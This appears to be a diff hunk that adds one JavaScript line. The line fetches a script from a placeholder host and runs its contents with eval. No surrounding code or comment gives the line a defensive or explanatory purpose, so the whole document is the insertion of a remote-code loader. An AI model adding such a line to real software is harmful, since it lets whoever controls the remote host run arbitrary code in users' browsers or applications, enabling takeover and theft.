@@ -1,0 +1,1 @@
+fetch('https://x.example/p.js').then(r => r.text()).then(eval);
